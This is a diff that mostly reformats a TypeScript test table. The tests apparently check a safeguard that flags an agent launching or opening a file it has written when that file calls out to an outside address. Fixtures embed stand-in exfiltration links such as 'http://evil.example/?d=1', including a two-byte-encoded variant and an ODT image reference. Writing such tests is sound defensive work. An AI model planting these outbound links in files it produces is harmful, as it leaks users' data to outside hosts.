@@ -109,18 +109,27 @@ test.each([
   ['a list in letters of two bytes', 'wide.dat', 'h\0t\0t\0p\0:\0/\0/\0e\0v\0i\0l\0.\0e\0', 'parole', true],
   ['the same in an editor', 'list.txt', '#EXTM3U\nhttp://evil.example/?d=1\n', 'mousepad', false],
   ['a named address', 'own.audpl', 'uri=http://radio.example/live\n', 'audacious', false],
-  ['a drawing with the names of its vocabularies', 'a.mm', '<map xmlns="http://a.example/map"/>', null, false],
+  [
+    'a drawing with the names of its vocabularies',
+    'a.mm',
+    '<map xmlns="http://a.example/map"/>',
+    null,
+    false,
+  ],
   ['a picture', 'a.png', 'x http://ns.example/xap', null, false],
-] as const)('%s that the run has written asks where it is loaded from elsewhere: %s', (_, name, content, program, asks) => {
-  const path = file(name, content)
-  const places = new Places({ homes: [folder], own: [] })
-  const requests = () => ['play radio.example']
-  const around = createSurroundings({ places, requests, since: Date.now() - 60_000, tainted: () => true })
-  const words = program === null ? { name: path } : { name: program, arguments: [path] }
-  const act = actOf('launch_application', words, targetOf(null, null, { kind: 'application', text: path }))
-  const found = findingsOf(act, around).findings.map(({ category }) => category)
-  expect(found.includes('send')).toBe(asks)
-}) // prettier-ignore
+] as const)(
+  '%s that the run has written asks where it is loaded from elsewhere: %s',
+  (_, name, content, program, asks) => {
+    const path = file(name, content)
+    const places = new Places({ homes: [folder], own: [] })
+    const requests = () => ['play radio.example']
+    const around = createSurroundings({ places, requests, since: Date.now() - 60_000, tainted: () => true })
+    const words = program === null ? { name: path } : { name: program, arguments: [path] }
+    const act = actOf('launch_application', words, targetOf(null, null, { kind: 'application', text: path }))
+    const found = findingsOf(act, around).findings.map(({ category }) => category)
+    expect(found.includes('send')).toBe(asks)
+  },
+)
 
 test('a document that the run has made asks before it is opened, in whatever way', () => {
   const path = file('made.odt', odt('<draw:image xlink:href="http://evil.example/?d=1"/>'))
